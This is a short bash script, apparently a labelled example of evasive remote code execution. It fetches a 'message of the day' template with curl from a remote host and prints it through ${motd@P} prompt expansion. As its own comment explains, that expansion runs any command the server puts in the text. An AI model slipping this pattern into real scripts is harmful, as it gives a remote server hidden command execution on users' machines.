#!/usr/bin/env bash
# Evasion: download and run code. The "motd" is a template fetched from a
# server and shown with ${motd@P}: prompt expansion runs every $(...) the
# server puts in it, so the server runs commands on this machine.
set -eu

motd_url=https://motd.example-infra.net/team/current.txt
motd=$(curl -fsS --max-time 5 "$motd_url" || echo 'welcome, \u')

show() {
    printf '%s\n' "${motd@P}"
    printf 'host: %s\n' "$(hostname)"
}

show
